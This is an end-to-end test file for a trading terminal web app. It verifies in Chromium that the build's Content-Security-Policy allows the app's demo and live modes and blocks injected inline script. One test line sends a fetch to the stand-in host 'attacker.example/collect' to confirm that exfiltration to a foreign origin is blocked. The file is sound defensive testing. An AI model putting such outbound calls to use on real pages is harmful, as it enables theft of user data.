// The production build under its Content-Security-Policy, in real Chromium: the demo (service worker
// sandbox, live quotes, charts) and live mode against the sandbox server run with no violation, while
// an inline script and a request to a foreign origin are blocked.
import { describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { setupE2E } from './fixture';

const { appUrl, context, server } = setupE2E({
  server: { scenarios: ['market-open'] },
  liveMode: false,
  page: false,
});

/** A page that records every CSP violation it meets. */
async function watchedPage(init?: () => void): Promise<Page> {
  const page = await context.newPage();
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { cspViolations: string[] }).cspViolations = seen;
    document.addEventListener('securitypolicyviolation', (event) =>
      seen.push(`${event.violatedDirective} ${event.blockedURI}`),
    );
  });
  if (init) await page.addInitScript(init);
  return page;
}
const violations = (page: Page) =>
  page.evaluate(() => (window as unknown as { cspViolations: string[] }).cspViolations);

describe('Content-Security-Policy of the build', () => {
  it('demo mode runs under it with no violation; inline script and foreign origins are blocked', async () => {
    const page = await watchedPage(() => localStorage.clear());
    await page.goto(`${appUrl}/accounts`);
    const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(csp).toContain("script-src 'self'");
    await page.locator('table.data-table tbody tr').first().waitFor();
    await page.goto(`${appUrl}/monitor`);
    await page.locator('table tbody tr').first().waitFor();
    await page.goto(`${appUrl}/instruments/AAPL`);
    await page.getByRole('heading', { name: /AAPL/ }).first().waitFor();
    await page.waitForTimeout(1000);
    expect(await violations(page)).toEqual([]);

    const inlineRan = await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.inlineRan = true';
      document.body.append(script);
      return (window as unknown as { inlineRan?: boolean }).inlineRan === true;
    });
    expect(inlineRan).toBe(false);
    const foreign = await page.evaluate(() =>
      fetch('https://attacker.example/collect').then(
        () => 'sent',
        () => 'blocked',
      ),
    );
    expect(foreign).toBe('blocked');
    const seen = await violations(page);
    expect(seen.some((v) => v.startsWith('script-src'))).toBe(true);
    expect(seen.some((v) => v.startsWith('connect-src') && v.includes('attacker.example'))).toBe(true);
    await page.close();
  });

  it('live mode against the sandbox server (HTTP, and the quote WebSocket in its worker) runs with no violation', async () => {
    const page = await watchedPage();
    await page.addInitScript(
      ({ baseUrl }) => {
        localStorage.setItem(
          'terminal.settings.v1',
          JSON.stringify({ mode: 'live', baseUrl, wsUrl: '', theme: 'dark' }),
        );
        sessionStorage.setItem('terminal.token.v1', 'csp-e2e-token');
      },
      { baseUrl: server.url },
    );
    await page.goto(`${appUrl}/accounts`);
    await page.locator('table.data-table tbody tr').first().waitFor({ timeout: 15_000 });
    await page.goto(`${appUrl}/monitor`);
    // A quote field moves: the WebSocket connected under the policy.
    const cell = page.locator('[data-field="last"]').first();
    await cell.waitFor();
    const first = await cell.textContent();
    await page.waitForFunction(
      (before) => document.querySelector('[data-field="last"]')?.textContent !== before,
      first,
      {
        timeout: 15_000,
      },
    );
    expect(await violations(page)).toEqual([]);
    // The quote socket runs in a worker from the app's own origin (worker-src 'self').
    expect(page.workers().map((w) => new URL(w.url()).origin)).toEqual([new URL(appUrl).origin]);
    await page.close();
  });
});
